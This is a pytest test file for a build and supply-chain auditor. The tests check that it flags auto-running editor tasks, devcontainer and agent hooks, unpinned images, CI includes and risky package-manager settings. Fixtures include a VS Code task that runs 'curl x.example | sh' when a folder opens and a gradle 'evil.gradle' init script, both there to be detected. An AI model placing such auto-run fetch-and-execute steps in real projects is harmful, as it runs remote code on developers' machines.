"""What runs as a folder is opened, images, hook managers, installed start files, settings that prevent."""

import json

import pytest

from builtby.builds.audit.base import kinds
from builtby.builds.audit.model import Certainty, When
from tests.builds.audit.conftest import Auditing
from tests.builds.audit.looking import findings, hooks, unsafe

DIGEST = "a" * 64


def test_tasks_that_start_by_themselves(audited: Auditing) -> None:
    tasks = ('{// a comment\n"tasks": [{"label": "x", "command": "curl x.example | sh",\n'
             '"runOptions": {"runOn": "folderOpen"}}, {"label": "y", "command": "make"},]}')
    result = audited({".vscode/tasks.json": tasks,
                      ".vscode/settings.json": '{"task.allowAutomaticTasks": "on", "git.path": "./git"}'})
    assert findings(result) == {"editor-runs-on-open", "hook-fetches"}
    assert unsafe(result) == {"editor-automatic-tasks"}
    assert {(hook[1], hook[4]) for hook in hooks(result, "project")} == {(When.OPEN, 3), (When.OPEN, 1)}


def test_devcontainers(audited: Auditing) -> None:
    result = audited({".devcontainer/devcontainer.json": json.dumps({
        "image": "dev.example/base:1", "initializeCommand": ["make", "x"], "postCreateCommand": {"a": "npm ci"},
        "features": {"ghcr.io/f/node:1": {}, "./own": {}, f"ghcr.io/f/git@sha256:{DIGEST}": {}}})})
    told = {hook.how for one in result.dependencies for hook in one.hooks}
    assert "initializeCommand, on your own machine, before the container is there: make x" in told
    assert "postCreateCommand, in the container: npm ci" in told
    assert [one.message for one in result.findings] == ["dev.example/base:1", "ghcr.io/f/node:1"]


def test_agents(audited: Auditing) -> None:
    result = audited({
        ".mcp.json": '{"mcpServers": {"a": {"command": "npx", "args": ["x"]}}}',
        ".claude/settings.json": '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "./run"}]}]}}',
        ".envrc": "# c\nuse flake\n", ".gitpod.yml": "tasks:\n  - init: make\nimage: a.example/b:1\n"})
    assert findings(result) == {"agent-hook", "image-unpinned"}
    assert {hook[2] for hook in hooks(result, "project")} == {Certainty.CERTAIN, Certainty.POSSIBLE}


def test_dockerfiles(audited: Auditing) -> None:
    result = audited({"Dockerfile": f"ARG V=12\nFROM debian:$V AS one\nFROM one\nFROM x.example/y@sha256:{DIGEST}\n"
                                    "FROM $UNKNOWN\nCOPY --from=one a b\nCOPY --from=tools:1 a b\n"
                                    "ADD https://x.example/a /a\nADD --checksum=sha256:aa https://x.example/a /a\n"})
    assert {(one.message, one.line) for one in result.findings} == {
        ("debian:12", 2), ("tools:1", 7), ("https://x.example/a", 8)}


def test_images_and_secrets_of_workflows(audited: Auditing) -> None:
    result = audited({".github/workflows/a.yml": "on: push\npermissions: {}\njobs:\n  a:\n    container: node:20\n"
                                                 "    services: {db: {image: 'postgres:15'}}\n    steps: []\n"
                                                 f"  b:\n    uses: o/r/.github/workflows/x.yml@{'b' * 40}\n"
                                                 "    secrets: inherit\n"
                                                 "  c:\n    uses: $/.github/workflows/own.yml\n    secrets: inherit\n"})
    assert {(one.rule, one.line) for one in result.findings} == {
        ("image-unpinned", 5), ("image-unpinned", 6), ("actions-secrets-inherit", 9)}


def test_other_pipelines(audited: Auditing) -> None:
    result = audited({
        ".gitlab-ci.yml": "include:\n  - project: g/p\n    ref: main\n  - local: a.yml\n  - component: h/c@1.0\n"
                          "  - remote: https://x.example/a.yml\n    integrity: sha256-x\n"
                          "a:\n  image: ruby:3\n  script: !reference [b, c]\n",
        ".circleci/config.yml": "orbs: {n: circleci/node@5, m: a/b@1.2.3}\n"
                                "jobs: {a: {docker: [{image: cimg/base:1}]}}\n",
        "azure-pipelines.yml": "resources:\n  repositories:\n  - {repository: t, name: o/t, ref: refs/tags/v1}\n"})
    assert {one.message for one in result.findings} == {
        "g/p main", "h/c 1.0", "ruby:3", "circleci/node@5", "cimg/base:1", "o/t refs/tags/v1"}


def test_hook_managers(audited: Auditing) -> None:
    result = audited({
        "lefthook.yml": "pre-commit:\n  commands:\n    a: {run: make lint}\n"
                        "  jobs: [{run: b}, {group: {jobs: [{run: c}]}}]\n"
                        "remotes: [{git_url: 'https://x.example/h', ref: v1}]\n",
        "package.json": '{"name": "p", "simple-git-hooks": {"pre-push": "npm test"}, "packageManager": "pnpm@9.0.0"}',
        ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n"
                                   "  - {id: z, entry: ./z, additional_dependencies: [q]}\n"})
    assert [hook[0] for hook in hooks(result, "lefthook")] == ["hook-manager"] * 3
    assert hooks(result, "p")[0][:2] == ("hook-manager", When.VCS)
    assert hooks(result, "z")[0][1] is When.VCS
    assert findings(result) == {"pre-commit-unpinned"}
    assert unsafe(result) == {"npm-corepack-hash"}


def test_start_files_of_python(audited: Auditing) -> None:
    result = audited({"site-packages/x.start": "# c\nx.y:go\n", "site-packages/ok.start": "ok:go\n",
                      "site-packages/ok-1.dist-info/RECORD": "ok.start,,\n"})
    assert hooks(result, "x.start")[0][:2] == ("start", When.START)
    assert hooks(result, "ok")[0][4] == 1
    assert findings(result) == {"pth-unowned"}
    assert result.counts["python"].dependencies == 2


def test_settings_prevent(audited: Auditing) -> None:
    entry = {"version": "1", "hasInstallScript": True}
    lock = json.dumps({"lockfileVersion": 3, "packages": {"node_modules/a": entry}})
    result = audited({"package-lock.json": lock, ".npmrc": "ignore-scripts=true\n", "pyproject.toml": "[tool.uv]\n"
                      "no-build = true\n", "uv.lock": '[[package]]\nname = "b"\nversion = "1"\n'
                      'source = { registry = "https://x.example" }\nsdist = { url = "https://x.example/b.tar.gz", '
                      'hash = "sha256:aa" }\n'})
    assert result.counts["npm"].prevented == result.counts["python"].prevented == 1
    assert "ignore-scripts=true in .npmrc prevents it" in result.dependencies[0].hooks[0].how


@pytest.mark.parametrize(("files", "rule"), [
    ({"package.json": '{"dependencies": {"a": "1"}, "allowScripts": {"a": true}}'}, "npm-strict-allow-scripts"),
    ({".npmrc": "dangerously-allow-all-scripts=true\n"}, "npm-all-scripts"),
    ({".npmrc": "allow-git=all\n"}, "npm-allow-remote"), ({".npmrc": "package-lock=false\n"}, "npm-no-lock"),
    ({"bunfig.toml": "[install]\nignoreScripts = false\n"}, "bun-ignore-scripts"),
    ({".yarnrc.yml": "enableScripts: false\nchecksumBehavior: ignore\n"}, "yarn-checksums"),
    ({"pyproject.toml": '[tool.uv]\nindex-strategy = "unsafe-best-match"\n'}, "uv-index-strategy"),
    ({"uv.toml": 'no-build = true\nno-build-isolation = true\n'}, "python-no-isolation"),
    ({"pip.conf": "[global]\nonly-binary = :all:\nrequire-hashes = false\n"}, "pip-require-hashes"),
    ({"Dockerfile": "ENV CGO_ENABLED=1\n"}, "go-cgo-enabled"),
    ({"build.sh": "./gradlew -I evil.gradle build\n"}, "gradle-init-script")])
def test_settings_that_let_code_run(audited: Auditing, files: dict[str, str], rule: str) -> None:
    assert unsafe(audited(files)) == {rule}


@pytest.mark.parametrize("line", ["CGO_ENABLED=0", "GOFLAGS=-mod=vendor", "PIP_ONLY_BINARY=:all:", "UV_NO_BUILD=1"])
def test_settings_that_are_in_order_are_said(audited: Auditing, line: str) -> None:
    result = audited({".env": f"{line}\n"})
    assert [one.safe for one in result.settings] == [True]


@pytest.mark.parametrize("line", ['echo "pip install x"', "pip install -U pip setuptools", "pip install --no-index x"])
def test_what_builds_nothing_is_no_finding(audited: Auditing, line: str) -> None:
    assert unsafe(audited({"a.sh": f"{line}\n"})) == set()


def test_credentials_are_hidden(audited: Auditing) -> None:
    result = audited({"requirements.txt": "--extra-index-url https://me:hunter22@x.example/simple\na==1\n"})
    assert "hunter22" not in str(result)
    assert any("x.example/simple" in (one.value or "") for one in result.settings)


def test_every_kind_of_hook_says_what_prevents_it(audited: Auditing) -> None:
    result = audited({"setup.py": "", "conftest.py": "", ".envrc": "x\n", "build.gradle": ""})
    assert set(result.kinds) == {"setup.py", "conftest.py", "editor", "gradle-script"}
    assert all(one.safer and one.title for one in result.kinds.values())
    assert all(one.known for one in kinds().values())
